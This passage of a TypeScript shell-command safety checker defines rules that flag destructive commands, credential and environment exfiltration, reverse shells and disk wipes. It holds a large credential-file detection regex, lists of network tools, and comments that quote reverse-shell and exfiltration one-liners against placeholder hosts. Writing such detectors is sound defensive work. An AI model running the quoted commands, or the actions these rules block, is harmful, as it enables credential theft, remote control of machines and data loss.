    return n.path === "/" || CORE_DIRS.has(n.path) || (n.glob && n.path === "/");
  });
};

const chownRoot: Check = (c, scope, k) => {
  const f = flagSet(c);
  if (!isRecursive(f)) return false;
  void scope;
  void k;
  return f.operands.slice(1).some((w) => {
    const n = normalise(w.text.replace(/^\$\{?HOME\}?/, "~"));
    return n.path === "/" || CORE_DIRS.has(n.path) || (w.text.startsWith("/") && n.path === "");
  });
};

const mvRoot: Check = (c, scope, k) => {
  const f = flagSet(c);
  const ops = f.operands;
  if (ops.length < 2) return false;
  const sources = ops.slice(0, -1);
  const cd = cwdClass(scope, k);
  return sources.some((w) => {
    const cls = classify(w, cd, scope.guarded);
    if (SSH_PRIVATE.test(w.text)) return true; // an identity file moved out of place
    if (cls === "root") return true;
    if (cls === "home") return isHomeItself(w.text);
    if (cls === "system") return CORE_DIRS.has(normalise(w.text).path) || normalise(w.text).path === "/home";
    return false;
  });
};

/** The home directory itself (not one of its folders): ~, $HOME/, /home/u, /root. */
function isHomeItself(t: string): boolean {
  const p = normalise(t.replace(/^\$\{?HOME\}?/, "~")).path;
  return p === "~" || /^~[a-z_][\w-]*$/.test(p) || /^\/(?:home|Users)\/[^/]+$/.test(p) || p === "/root";
}

/** An SSH private key (or a glob of them) in a home directory: `~/.ssh/id_ed25519`, `$HOME/.ssh/id_*`. */
const SSH_PRIVATE = /^(?:~|\$\{?HOME\}?|\/(?:home|Users)\/[^/]{1,64}|\/root)\/\.ssh\/id_[\w-]{0,40}\*?$/;

const truncateSystem: Check = (c) => {
  const prog = programName(c.words[0]);
  if (c.redirects.some((r) => (r.op === ">" || r.op === ">|" || r.op === "&>") && CRITICAL_FILES.test(normalise(r.target.text).path))) return true;
  // `: > ~/.ssh/id_ed25519`, `> key`: emptied, not rewritten (echo "$DEPLOY_KEY" > ~/.ssh/id_x is setup work)
  if ((!c.words.length || prog === ":" || prog === "true") && c.redirects.some((r) => (r.op === ">" || r.op === ">|") && SSH_PRIVATE.test(r.target.text))) return true;
  const f = flagSet(c);
  const ops = f.operands.map((o) => normalise(o.text).path);
  if (prog === "truncate" || prog === "shred" || prog === "rm" || prog === "unlink") return ops.some((p) => CRITICAL_FILES.test(p)) || f.operands.some((o) => SSH_PRIVATE.test(o.text));
  // … | sudo tee /etc/passwd: tee without -a replaces the file with its input
  if (prog === "tee") return !f.short.has("a") && !f.long.has("append") && ops.some((p) => CRITICAL_FILES.test(p));
  if (prog === "cp" || prog === "mv" || prog === "dd") {
    if (prog === "cp" && ops[0] === "/dev/null" && SSH_PRIVATE.test(f.operands[f.operands.length - 1]?.text ?? "")) return true;
    if (prog === "dd") return texts(c).some((t) => t.startsWith("of=") && CRITICAL_FILES.test(normalise(t.slice(3)).path));
    return ops.length >= 2 && ops[0] === "/dev/null" && CRITICAL_FILES.test(ops[ops.length - 1] as string);
  }
  return false;
};

const gitResetRemote: Check = (c) => {
  const w = texts(c);
  if (programName(w[0]) !== "git") return false;
  let i = 1;
  while (i < w.length && /^-/.test(w[i] as string)) i += /^-[cC]$/.test(w[i] as string) ? 2 : 1;
  if (w[i] !== "reset" || !w.includes("--hard")) return false;
  const refs = w.slice(i + 1).filter((t) => !t.startsWith("-"));
  return refs.some((r) => /^(?:@\{u(?:pstream)?\}|[\w.-]+@\{u(?:pstream)?\}|FETCH_HEAD|(?:refs\/)?(?:origin|upstream|remotes\/[\w.-]+)\/[\w.${}-][^\n]{0,200}|(?!HEAD)[\w.-]+\/[\w./-]+@\{[^}]*\})$/.test(r));
};

// ---- exfiltration ------------------------------------------------------------------------------

const CRED_PATH =
  /(?:^|\/)\.env(?:\.(?!example$|sample$|template$|tpl$|dist$|defaults?$|schema$|example\.|(?:[\w.-]*\.)?(?:gpg|asc|age|enc|vault)$)[\w.-]+)?$|(?:^|\/)\.ssh(?:\/(?!.*\.pub$)(?!known_hosts)(?!config$)[^/]*)?$|(?:^|\/)id_(?:rsa|dsa|ecdsa|ed25519)(?:_[\w-]+)?$|(?:^|\/)\.aws(?:\/|$)|(?:^|\/)\.kube(?:\/|$)|kubeconfig|(?:^|\/)\.docker\/config\.json$|(?:^|\/)\.git-credentials$|(?:^|\/)\.npmrc$|(?:^|\/)\.pypirc$|(?:^|\/)\.netrc$|(?:^|\/)\.htpasswd$|(?:^|\/)credentials(?:\.json|\.ya?ml)?$|(?:^|\/)secrets?\.(?:ya?ml|json|toml|env|txt|ini)$|\.(?:pem|p12|pfx|key|jks|keystore|ppk|kdbx)$|(?:^|\/)\.config\/gcloud(?:\/|$)|service[-_]?account[\w.-]*\.json$|(?:^|\/)\.vault-token$|(?:^|\/)wallet\.dat$|\.config\/solana\/id\.json$|(?:^|\/)\.gnupg(?:\/|$)|\.config\/gh\/hosts\.yml$|(?:^|\/)\.azure\/|credentials\.(?:toml|tfrc\.json)$|(?:^|\/)\.(?:pgpass|my\.cnf|s3cfg|boto)$|(?:^|\/)\.password-store(?:\/|$)|^\/etc\/shadow$|(?:^|\/)master\.key$/;
/** SPEC §3 (2026-12) sources: wallet and keystore JSON, Terraform state, process environments. */
const CRED_EXTRA = new RegExp(
  [
    String.raw`(?:^|\/)wallet[\w.-]*\.json$|(?:^|\/)keystore(?:\/|$)|(?:^|\/)UTC--[\w.:-]+$|(?:^|\/)keypair[\w.-]*\.json$`,
    String.raw`|\.tfstate(?:\.backup)?$`,
  ].join(""),
);

/** The file a word names, with curl's @file / name=@file;type=… / <file forms peeled. */
function pathOf(t: string): string {
  let s = t.replace(/^[\w.-]*=?[@<]/, "");
  s = s.replace(/;(?:type|filename|headers)=.*$/, "");
  s = s.replace(/^\$\{?HOME\}?/, "~");
  return s;
}
export const isCredPath = (t: string) => t.length < 400 && (CRED_PATH.test(pathOf(t)) || CRED_EXTRA.test(pathOf(t)));

const ENV_DUMP_PROGRAMS = new Set(["env", "printenv"]);
const SECRET_VAR = /\$\{?[A-Za-z_]*(?:KEY|SECRET|TOKEN|PASSWORD|PASSWD|CREDENTIALS?|PRIVATE)[A-Za-z0-9_]*\}?/i;

/** A process's environment, as a file (`/proc/self/environ`, `/proc/1/environ`). */
const PROC_ENVIRON = /^\/proc\/[\w*]+\/environ$/;

function isEnvDump(c: SimpleCommand): boolean {
  const w = texts(c);
  const prog = programName(w[0]);
  // echo "$AWS_SECRET_ACCESS_KEY" | … sends one secret from the environment
  if ((prog === "echo" || prog === "printf") && c.words.slice(1).some((x) => SECRET_VAR.test(x.raw))) return true;
  if (ENV_DUMP_PROGRAMS.has(prog)) return true; // unwrapRunner already turned `env cmd …` into cmd
  if (prog === "set" && w.length === 1) return true;
  if ((prog === "export" || prog === "declare" || prog === "typeset") && (w.length === 1 || w.slice(1).every((t) => /^-[pxf]+$/.test(t)))) return prog === "export" || w.length > 1;
  if (prog === "compgen" && w.includes("-e")) return true;
  return w.slice(1).some((t) => PROC_ENVIRON.test(t));
}

function readsCred(c: SimpleCommand): boolean {
  const prog = programName(c.words[0]);
  if (/^(?:ssh|scp|sftp|ssh-add|ssh-keygen|ssh-copy-id|git|chmod|chown|ls|stat|test|\[|touch|mkdir|echo|printf|source|\.|docker|export)$/.test(prog)) return false;
  if (c.redirects.some((r) => r.op === "<" && isCredPath(r.target.text))) return true;
  return operandsOf(c).some((t) => isCredPath(t));
}

/**
 * Commands that print a secret a credential file would hold: gpg --export-secret-keys, gh auth
 * token, kubectl config view --raw, a keychain password (security … -w), op read, pass show,
 * gcloud / az access tokens. Used in an Authorization header or piped to a login, they pass.
 */
function printsCred(c: SimpleCommand): boolean {
  const w = texts(c);
  const prog = programName(w[0]);
  const sub = `${w[1] ?? ""} ${w[2] ?? ""}`;
  switch (prog) {
    case "gpg":
    case "gpg2":
      return w.some((t) => /^--export-secret-(?:sub)?keys$/.test(t));
    case "gh":
      return sub === "auth token";
    case "kubectl":
      return sub === "config view" && w.some((t) => t === "--raw" || t === "--flatten");
    case "security":
      return /^find-(?:generic|internet)-password$/.test(w[1] ?? "") && w.some((t) => t === "-w" || t === "-g");
    case "op":
      return w[1] === "read" || sub === "item get";
    case "pass":
      return w[1] === "show" || (w.length === 2 && !(w[1] ?? "").startsWith("-"));
    case "gcloud":
      return sub === "auth print-access-token" || sub === "auth print-identity-token";
    case "az":
      return sub === "account get-access-token";
    case "aws":
      return sub === "configure export-credentials" || (sub === "configure get" && /secret|session_token/i.test(w[3] ?? ""));
    case "vault":
      return sub === "print token";
  }
  return false;
}

const NET = /^(?:gh|curl|wget|nc|ncat|netcat|socat|telnet|scp|sftp|rsync|ftp|lftp|ssh|http|https|xh|httpie|mail|mailx|sendmail|mutt|aws|gsutil|rclone|azcopy|openssl|smbclient|tftp|dig|nslookup|host|drill|ping)$/;

const OPTS_WITH_ARG: Record<string, string> = { scp: "cFiJloPS", rsync: "eBfT", sftp: "bcDFiJloPRSs", ssh: "bcDEeFIiJLlmOopQRSWw" };

function operandsOf(c: SimpleCommand): string[] {
  const prog = programName(c.words[0]);
  const withArg = OPTS_WITH_ARG[prog] ?? "";
  const out: string[] = [];
  const w = texts(c);
  for (let i = 1; i < w.length; i++) {
    const t = w[i] as string;
    if (t.startsWith("--")) {
      if (!t.includes("=") && /^--(?:rsh|exclude|include|filter|files-from|password-file|port|exclude-from|include-from|rsync-path|chmod|chown|log-file|timeout|bwlimit)$/.test(t)) i++;
      continue;
    }
    if (t.startsWith("-") && t.length > 1) {
      const last = t[t.length - 1] as string;
      if (withArg.includes(last) && t.length === 2) i++;
      continue;
    }
    out.push(t);
  }
  return out;
}

/** curl short options without a value, bundled before -d / -F / -T (`-sSF`). */
const CURL_BUNDLE = /^-[sSfLvkiIgGnNOqRZjJl46]*([dFT])(.*)$/;

const REMOTE = /^(?:[\w.-]+@)?[\w.-]+:(?!\/\/)|^rsync:\/\/|^(?:s3|gs|az|https?):\/\//;

/** A network sender that carries a named file in its own arguments (curl -d @f, scp f host:, …). */
function sendsFile(c: SimpleCommand, bad: (t: string) => boolean): boolean {
  const prog = programName(c.words[0]);
  const w = texts(c);
  switch (prog) {
    case "curl": {
      for (let i = 1; i < w.length; i++) {
        const t = w[i] as string;
        const m = /^(?:-d|--data(?:-binary|-raw|-urlencode|-ascii)?|--json|-F|--form|-T|--upload-file)(?:=(.*))?$/.exec(t);
        // -d@f, and short flags bundled before it: -sT f, -sSF x=@f
        const glued = m ? null : CURL_BUNDLE.exec(t);
        const value = m ? (m[1] ?? w[i + 1] ?? "") : glued ? (glued[2] || (w[i + 1] ?? "")) : undefined;
        if (value === undefined) continue;
        const upload = /^(?:-T|--upload-file)/.test(t) || glued?.[1] === "T";
        if ((upload || /@|<|^[\w.-]*=?</.test(value)) && bad(value)) return true;
      }
      return false;
    }
    case "wget":
      return w.some((t, i) => /^--(?:post-file|body-file)(?:=|$)/.test(t) && bad(t.includes("=") ? t.slice(t.indexOf("=") + 1) : (w[i + 1] ?? "")));
    case "scp":
    case "rsync":
    case "sftp": {
      const ops = operandsOf(c);
      if (ops.length < 2 || !REMOTE.test(ops[ops.length - 1] as string)) return false;
      return ops.slice(0, -1).some((t) => !REMOTE.test(t) && bad(t));
    }
    case "socat":
      return w.some((t) => /^(?:FILE|OPEN|GOPEN|EXEC|SYSTEM):/i.test(t) && bad(t.replace(/^\w+:/, "").split(",")[0] as string));
    case "http":
    case "https":
    case "xh":
    case "httpie":
      return w.slice(1).some((t) => /^@|^[\w.-]+:?=?@/.test(t) && bad(t.replace(/^[\w.-]*:?=?@/, "")));
    case "gh": {
      if (w[1] === "gist" && (w[2] === "create" || w[2] === "new")) return w.slice(3).some((t) => !t.startsWith("-") && bad(t));
      if (w[1] === "release" && w[2] === "upload") return w.slice(4).some((t) => !t.startsWith("-") && bad(t));
      // gh issue create --body-file .env, gh pr comment -F f, gh api -F x=@f / --input f
      return w.some((t, i) => {
        const m = /^(?:--body-file|-F|--field|--raw-field|-f|--input)(?:=(.*))?$/.exec(t);
        return m !== null && bad((m[1] ?? w[i + 1] ?? "").replace(/^[\w.-]+=@?/, ""));
      });
    }
    case "mail":
    case "mailx":
    case "mutt":
      return w.some((t, i) => (t === "-a" || t === "-A" || t === "--attach") && bad(w[i + 1] ?? ""));
    case "aws":
    case "gsutil":
    case "rclone":
    case "azcopy": {
      const ops = w.slice(1).filter((t) => !t.startsWith("-"));
      const dest = ops[ops.length - 1] ?? "";
      return /^(?:s3|gs|az|https?):\/\/|^[\w-]+:/.test(dest) && ops.slice(0, -1).some((t) => !/:\/\//.test(t) && bad(t));
    }
  }
  return false;
}

function isSender(c: SimpleCommand): boolean {
  const prog = programName(c.words[0]);
  if (c.redirects.some((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target.text))) return true;
  if (!NET.test(prog)) return false;
  if (prog === "openssl") return c.words[1]?.text === "s_client";
  if (prog === "aws") return c.words[1]?.text === "s3";
  if (prog === "gh") return /^(?:gist|issue|pr|release|api|discussion)$/.test(c.words[1]?.text ?? "");
  return true;
}

type Kind = "cred" | "env";
const KINDS: readonly Kind[] = ["cred", "env"];
/** What a command does to be a source: read a credential file, or dump the environment. */
const SOURCE: Record<Kind, (c: SimpleCommand) => boolean> = { cred: (c) => readsCred(c) || printsCred(c), env: (c) => isEnvDump(c) };

/** How a credential (or an env dump) travels through one command line. */
interface Taint {
  /** Files written from it earlier in the command. */
  files: Set<string>;
  /** Variables holding it (`KEY=$(cat ~/.ssh/id_rsa)`). */
  vars: Set<string>;
  /** Pipeline stages fed by an earlier stage that carries it. */
  after: Set<SimpleCommand>;
}

/** The exfiltration facts of one analysis, computed once. */
interface Flow extends Record<Kind, Taint> {
  /** Pipelines with a shell reading its stdin (`sh -i`). */
  shellPipes: Set<number>;
}

const DECLARE = /^(?:export|local|declare|readonly|typeset)$/;

function flowOf(scope: Scope): Flow {
  const taint = (): Taint => ({ files: new Set(), vars: new Set(), after: new Set() });
  const flow: Flow = { cred: taint(), env: taint(), shellPipes: new Set() };
  for (const p of scope.ctx.tainted ?? []) flow.cred.files.add(p);
  const { commands } = scope.analysis;
  for (let k = 0; k < commands.length; k++) {
    const c = commands[k] as SimpleCommand;
    const assigns = !c.words.length ? c.assignments : DECLARE.test(programName(c.words[0])) ? c.words.slice(1) : [];
    if (!assigns.length) continue;
    for (const kind of KINDS) {
      // TOKEN=$(grep TOKEN .env | cut -d= -f2) picks one value to use, not the file
      if (!childrenOf(scope, k, "sub").some((inner) => feeds(unwrapRunner(inner), flow, kind) && !extracted(scope, inner))) continue;
      for (const a of assigns) {
        const m = /^([A-Za-z_]\w*)\+?=/.exec(a.text);
        if (m && a.expands) flow[kind].vars.add(m[1] as string);
      }
    }
  }
  scope.analysis.pipelines.forEach((pipe, p) => {
    const carries: Record<Kind, boolean> = { cred: false, env: false };
    for (const raw of pipe) {
      for (const kind of KINDS) if (carries[kind]) flow[kind].after.add(raw);
      const c = unwrapRunner(raw);
      if (pipe.length > 1 && SHELL_PATH.test(c.words[0]?.text ?? "") && c.words.slice(1).every((x) => /^-[ils]+$|^-$/.test(x.text))) flow.shellPipes.add(p);
      for (const kind of KINDS) carries[kind] ||= feeds(c, flow, kind);
      // a $( ) in the stage, or its copy with known variables put in: echo "$(cat key)" | …, cat "$F" | …
      if (!carries.cred || !carries.env) {
        const j = indexOf(scope, raw);
        for (const inner of childrenOf(scope, j, "sub").concat(childrenOf(scope, j, "var"))) {
          const u = unwrapRunner(inner);
          for (const kind of KINDS) carries[kind] ||= feeds(u, flow, kind);
        }
      }
      const outs = c.redirects.filter((r) => /^(?:>|>>|>\||&>|&>>)$/.test(r.op) && !/^\/dev\//.test(r.target.text)).map((r) => r.target.text);
      const prog = programName(c.words[0]);
      if (/^(?:cp|tar|zip|7z|gzip|base64|openssl|gpg|install|rsync)$/.test(prog) && (readsCred(c) || c.words.slice(1).some((w) => flow.cred.files.has(pathOf(w.text))))) {
        for (const w of c.words.slice(1)) if (!w.text.startsWith("-") && !isCredPath(w.text)) outs.push(w.text);
      }
      // … | tee f: the stream's credential lands in f
      if (prog === "tee" && carries.cred) for (const w of flagSet(c).operands) outs.push(w.text);
      for (const kind of KINDS) if (carries[kind]) for (const o of outs) flow[kind].files.add(pathOf(o));
    }
  });
  return flow;
}

/** Programs that pick values out of a file (grep KEY .env | cut -d= -f2, jq -r .token f.json). */
const EXTRACTORS = /^(?:grep|egrep|fgrep|rg|cut|sed|awk|gawk|mawk|jq|yq)$/;

/** The substitution's pipeline ends in an extractor: it yields a value, not the whole file. */
function extracted(scope: Scope, inner: SimpleCommand): boolean {
  const pipe = scope.analysis.pipelines[inner.pipeline] ?? [];
  const last = pipe[pipe.length - 1];
  if (last === undefined) return false;
  const u = unwrapRunner(last);
  // TOKEN=$(gh auth token): one token to use (in a URL, a header), not a key file
  return EXTRACTORS.test(programName(u.words[0])) || (printsCred(u) && !/^(?:gpg2?|kubectl)$/.test(programName(u.words[0])));
}

/** A `$NAME` / `${NAME}` in the word names one of these variables. */
function usesVar(raw: string, names: ReadonlySet<string>): boolean {
  if (!names.size || !raw.includes("$")) return false;
  for (const m of raw.matchAll(/\$\{?([A-Za-z_]\w*)/g)) if (names.has(m[1] as string)) return true;
  return false;
}

/** The command's output carries a credential (or an env dump): it reads one, a file made from one, or echoes a variable holding one. */
function feeds(c: SimpleCommand, flow: Flow, kind: Kind): boolean {
  const t = flow[kind];
  if (SOURCE[kind](c) || c.words.slice(1).some((w) => t.files.has(pathOf(w.text)))) return true;
  const prog = programName(c.words[0]);
  return (prog === "echo" || prog === "printf") && c.words.slice(1).some((w) => usesVar(w.raw, t.vars));
}

const SCRIPT_NET = /requests\.(?:post|put|get)|urllib|urlopen|http\.client|httpx|aiohttp|fetch\s*\(|axios|https?\.request|socket\.|Net::HTTP|open-uri|LWP|HTTP::Tiny|curl_exec|file_get_contents\s*\(\s*['"]https?:/;
const SCRIPT_ENV = /os\.environ(?!\s*(?:\[|\.get|\.setdefault))|dict\(\s*os\.environ\s*\)|process\.env(?!\s*[.[])|JSON\.stringify\(\s*process\.env\s*\)|ENV\.to_h|%ENV(?!\{)|getenv\(\s*\)/;
const SCRIPT_FILE = /(?:open|readFileSync|readFile|read_text|File\.read|IO\.read|file_get_contents)\s*\(\s*(?:os\.path\.expanduser\(\s*)?['"`]([^'"`]{1,200})['"`]/g;
/** A file under the home directory named by joining onto it: homedir() + '/.ssh/id_rsa', Path.home() / '.aws' / 'credentials', path.join(os.homedir(), '.npmrc'). */
const SCRIPT_HOME_FILE = /(?:homedir\(\)|process\.env\.HOME|Path\.home\(\)|expanduser\(\s{0,4}['"]~['"]\s{0,4}\)|Dir\.home|ENV\[\s{0,4}['"]HOME['"]\s{0,4}\])\s{0,4}[+/,]\s{0,4}['"`]([^'"`]{1,200})['"`]/g;

/** An interpreter one-liner that reads a credential file / the environment and calls the network. */
function scriptExfil(c: SimpleCommand, kind: Kind): boolean {
  const script = interpreterScript(c);
  if (!script || !SCRIPT_NET.test(script)) return false;
  if (kind === "env") return SCRIPT_ENV.test(script);
  const re = new RegExp(SCRIPT_FILE.source, "g");
  for (let m = re.exec(script); m; m = re.exec(script)) if (isCredPath(m[1] as string)) return true;
  for (const m of script.matchAll(SCRIPT_HOME_FILE)) if (isCredPath("~/" + (m[1] as string).replace(/^[/]{1,4}/, ""))) return true;
  return false;
}

/**
 * Commands found inside command k: the ones in its own $( ) / backticks / <( ) ("sub"), or its
 * copies with known variables put in ("var"). Indexed once per analysis.
 */
function childrenOf(scope: Scope, k: number, kind: "sub" | "var"): SimpleCommand[] {
  if (!scope.subs || !scope.vars) {
    scope.subs = new Map();
    scope.vars = new Map();
    for (const inner of scope.analysis.commands) {
      const last = inner.via[inner.via.length - 1];
      if (inner.parent === undefined) continue;
      const map = last === "$()" || last === "``" || last === "<()" ? scope.subs : last === "$var" ? scope.vars : undefined;
      if (!map) continue;
      const list = map.get(inner.parent) ?? [];
      list.push(inner);
      map.set(inner.parent, list);
    }
  }
  return (kind === "sub" ? scope.subs : scope.vars).get(k) ?? [];
}

function indexOf(scope: Scope, c: SimpleCommand): number {
  if (!scope.index) {
    scope.index = new Map();
    scope.analysis.commands.forEach((x, j) => scope.index?.set(x, j));
  }
  return scope.index.get(c) ?? -1;
}

/** A header or login that authenticates the request: a credential there is used, not sent away. */
const AUTH_HEADER = /^\s*(?:authorization|proxy-authorization|private-token|cookie|x-[\w-]*(?:token|api-?key|auth)[\w-]*|api-?key)\s*:/i;

/** Word i of a curl / wget / httpie command is the value of an authentication option. */
function authValue(w: string[], i: number): boolean {
  const prev = w[i - 1] ?? "";
  const t = w[i] as string;
  if (/^(?:-u|--user|--oauth2-bearer|--proxy-user|--http-user|--http-password|--password)$/.test(prev) || /^--(?:user|oauth2-bearer|http-user|http-password|password)=/.test(t)) return true;
  if (/^(?:-H|--header)$/.test(prev)) return AUTH_HEADER.test(t);
  if (t.startsWith("--header=")) return AUTH_HEADER.test(t.slice(9));
  return /^-H./.test(t) && AUTH_HEADER.test(t.slice(2));
}

/** curl sends its stdin only when told to (`-d @-`, `-T -`, `-F f=@-`); `env | curl URL` sends nothing. */
function readsStdin(c: SimpleCommand): boolean {
  if (programName(c.words[0]) !== "curl") return true;
  const w = texts(c);
  return w.some((t, i) => /[@<]-$/.test(t) || ((t === "-" || t === ".") && /^(?:-[a-zA-Z]*T|--upload-file|-K|--config)$/.test(w[i - 1] ?? "")));
}

/** A vendor credential variable in a query string: `?k=$OPENAI_API_KEY`, `&t=${GITHUB_TOKEN}`. */
const QUERY_SECRET = /[?&][\w.-]{1,40}=[^&\s]{0,80}?\$\{?([A-Z][A-Z0-9]*)_[A-Z0-9_]*(?:KEY|SECRET|TOKEN|PASSWORD|PASSWD|CREDENTIALS?)\b/;
/** …sent to a host that is not its vendor's (GOOGLE_API_KEY to *.googleapis.com is how that API is called). */
function secretInQuery(raw: string): boolean {
  const url = /\b(?:https?|wss?):\/\/([^/?#\s"']{1,200})/.exec(raw);
  const m = url ? QUERY_SECRET.exec(raw.slice(url.index)) : null;
  return m !== null && !(url?.[1] as string).toLowerCase().includes((m[1] as string).toLowerCase());
}

/** The stage before this one encodes its input (`printenv | base64 | curl …`): data packed to be carried. */
function encodedBefore(scope: Scope, raw: SimpleCommand): boolean {
  const prev = scope.analysis.pipelines[raw.pipeline]?.[raw.stage - 1];
  return prev !== undefined && /^(?:base64|base32|basenc|gzip|bzip2|xz|zstd|xxd|od|hexdump|openssl|gpg|tar|zip)$/.test(programName(unwrapRunner(prev).words[0]));
}

/** `git push` after a `git add -f` / `--force` of a credential file in the same command line. */
function pushesForcedSecret(c: SimpleCommand, scope: Scope, k: number): boolean {
  const w = texts(c);
  if (programName(w[0]) !== "git" || !w.includes("push")) return false;
  return scope.cmds.slice(0, k).some((p) => {
    const t = texts(p);
    const add = t.indexOf("add");
    return programName(t[0]) === "git" && add > 0 && t.slice(add + 1).some((x) => x === "-f" || x === "--force" || /^-[A-Za-z]*f/.test(x)) && t.slice(add + 1).some((x) => !x.startsWith("-") && isCredPath(x));
  });
}

function exfil(c: SimpleCommand, scope: Scope, k: number, kind: Kind): boolean {
  if (scriptExfil(c, kind)) return true;
  if (kind === "cred" && pushesForcedSecret(c, scope, k)) return true;
  if (!isSender(c)) return false;
  if (kind === "env" && c.words.some((x) => secretInQuery(x.raw))) return true;
  const flow = (scope.flow ??= flowOf(scope));
  const taint = flow[kind];
  const bad = (t: string) => (kind === "cred" ? isCredPath(t) : PROC_ENVIRON.test(pathOf(t))) || taint.files.has(pathOf(t));
  const w = texts(c);
  // 1. its own arguments or stdin redirect name the file, or carry a variable holding it
  if (sendsFile(c, bad)) return true;
  if (c.redirects.some((r) => (r.op === "<" || r.op === "<>") && bad(r.target.text))) return true;
  if (c.words.some((x, i) => i > 0 && usesVar(x.raw, taint.vars) && !authValue(w, i))) return true;
  // 2. an earlier stage of its pipeline (or a $( ) in it, or its copy with variables put in) reads a credential / dumps the environment
  const raw = scope.analysis.commands[k] as SimpleCommand;
  // an environment dump encoded and piped at curl counts even where curl would not read it (SPEC §3: "an env dump piped to the network")
  if (taint.after.has(raw) && (readsStdin(c) || (kind === "env" && encodedBefore(scope, raw)))) return true;
  // 3. a $(…) / `…` inside its arguments does (unless it only authenticates: -H "Authorization: …$(cat token)",
  //    or puts one extracted value in the URL: https://api.telegram.org/bot$(grep TOKEN .env | cut -d= -f2)/getMe)
  const subs = childrenOf(scope, k, "sub");
  const carriers = c.words.filter((x, i) => i > 0 && /\$\(|`/.test(x.raw) && !authValue(w, i));
  if (subs.length && carriers.length) {
    const inUrl = carriers.every((x) => x.text.includes("://"));
    for (const inner of subs) {
      if (feeds(unwrapRunner(inner), flow, kind) && !(inUrl && extracted(scope, inner))) return true;
    }
  }
  // 4. /dev/tcp redirect of a command that itself reads the file
  if (c.redirects.some((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target.text))) return SOURCE[kind](c);
  return false;
}

const SHELL_PATH = /^(?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k)?sh$/;
/** A one-liner that opens a socket and wires a shell to it (python / perl / ruby / php / node reverse shells). */
const SCRIPT_SOCKET = /socket\s*[.(]|TCPSocket|fsockopen|IO::Socket|net\.connect|net\.Socket|Socket::INET/;
const SCRIPT_SHELL = /['"](?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k)?sh(?=['"\s])|pty\.spawn|cmd(?:\.exe)?['"]/;
/** …with the shell's stdio on the socket: dup2, pty.spawn, stdin=s.fileno(), .pipe(, open(STDIN, ">&S"), <&3. */
const SCRIPT_WIRE = /dup2|pty\.spawn|fileno\(\)|\.pipe\(|[<>]&\s*%?\w|STDIN/;


/** A shell handed to a network peer: nc -e /bin/sh, bash -i >& /dev/tcp/h/p, socat exec:bash tcp:…, nc h p | sh */
const reverseShell: Check = (c, scope) => {
  const prog = programName(c.words[0]);
  const w = texts(c);
  const script = interpreterScript(c);
  if (script !== undefined) return SCRIPT_SOCKET.test(script) && SCRIPT_SHELL.test(script) && SCRIPT_WIRE.test(script);
  if (/^(?:nc|ncat|netcat|telnet)$/.test(prog) || (prog === "openssl" && w[1] === "s_client")) {
    if (w.some((t, i) => /^-\w*[ec]$/.test(t) && SHELL_PATH.test(w[i + 1] ?? ""))) return true;
    // a network client and a shell reading its stdin in one pipeline: `cat f | sh -i 2>&1 | nc h p > f`
    return (scope.flow ??= flowOf(scope)).shellPipes.has(c.pipeline);
  }
  if (prog === "socat") return w.some((t) => /^(?:exec|system):/i.test(t) && /(?:ba|z)?sh\b/.test(t)) && w.some((t) => /^(?:tcp|ssl|openssl)[\w-]*:/i.test(t));
  const tcp = c.redirects.some((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target.text));
  // exec 196<>/dev/tcp/h/p; sh <&196 >&196 2>&196
  if (!tcp && SHELL_PATH.test(prog) && c.redirects.some((r) => r.op === "<&" || r.op === "<")) {
    const fds = new Set<string>();
    for (const x of scope.cmds) for (const r of x.redirects) if (r.fd !== null && r.fd > 2 && /^\/dev\/(?:tcp|udp)\//.test(r.target.text)) fds.add(String(r.fd));
    if (fds.size && c.redirects.some((r) => (r.op === "<&" || r.op === "<") && fds.has(r.target.text.replace(/^&/, "")))) return true;
  }
  return tcp && SHELL_PATH.test(prog) && c.redirects.some((r) => r.op === ">&" || r.op === "&>" || r.op === "<" || r.op === "<&" || r.op === "<>");
};

/** parted DEV mklabel / rm, sfdisk --delete, fdisk / gdisk fed a script, cryptsetup luksFormat: the partition table or the encryption header of a whole disk, rewritten. */
const partitionWipe: Check = (c) => {
  const prog = programName(c.words[0]);
  const w = texts(c);
  const dev = w.slice(1).some((t) => isDevice(t));
  if (!dev) return false;
  switch (prog) {
    case "parted":
      return w.some((t) => /^(?:mklabel|mktable|rm)$/i.test(t));
    case "sfdisk":
      return w.some((t) => /^(?:--delete|--wipe=always|-W)$/.test(t)) || ((c.stage > 0 || c.redirects.some((r) => /^<{1,3}-?$/.test(r.op))) && !w.some((t) => /^(?:-[dlsV]|--dump|--list|--show-size|--verify|--backup)$/.test(t)));
    case "fdisk":
    case "gdisk":
    case "cfdisk":
      // interactive by default; its stdin scripted (`echo -e "o\nw" | fdisk /dev/sda`) writes a new table
      return (c.stage > 0 || c.redirects.some((r) => /^<{1,3}-?$/.test(r.op))) && !w.some((t) => /^(?:-l|--list|-s|--getsz)$/.test(t));
    case "cryptsetup":
      return w.some((t) => /^(?:luksFormat|erase|luksErase|reencrypt)$/.test(t));
  }
  return false;
};

/** rsync --delete onto the root, the home directory or the core of the OS: everything not in the source goes. */
const rsyncDeleteRoot: Check = (c, scope, k) => {
  const w = texts(c);
  if (!w.some((t) => /^--(?:delete(?:-\w+)?|del|remove-source-files)$/.test(t) && t !== "--remove-source-files")) return false;
  const ops = operandsOf(c);
  const dest = ops[ops.length - 1];
  if (ops.length < 2 || dest === undefined || REMOTE.test(dest)) return false;
  const word = c.words.find((x) => x.text === dest) ?? { text: dest, raw: dest, quoted: false, dynamic: false };
  const cls = classify(word, cwdClass(scope, k), scope.guarded);
  return cls === "root" || cls === "home" || cls === "var-root" || (cls === "system" && isRootOrCore(word));
};

/** git clean -f with the home directory or the root as its work tree (cd ~ && git clean -ffdx; a dotfiles repo). */
const gitCleanRoot: Check = (c, scope, k) => {
  const w = texts(c);
  let i = 1;
  let dir: Word | undefined;
  for (; i < w.length && (w[i] as string).startsWith("-"); i++) {
    const t = w[i] as string;
    if (t === "-C" || t === "--work-tree") dir = c.words[++i];
    else if (t.startsWith("--work-tree=")) dir = { ...(c.words[i] as Word), text: t.slice(12) };
    else if (t === "-c" || t === "--git-dir" || t === "--namespace") i++;
  }
  if (w[i] !== "clean" || !w.slice(i + 1).some((t) => /^-[a-zA-Z]*f|^--force$/.test(t))) return false;
  const cls = dir ? classify(dir, undefined, scope.guarded) : cwdClass(scope, k);
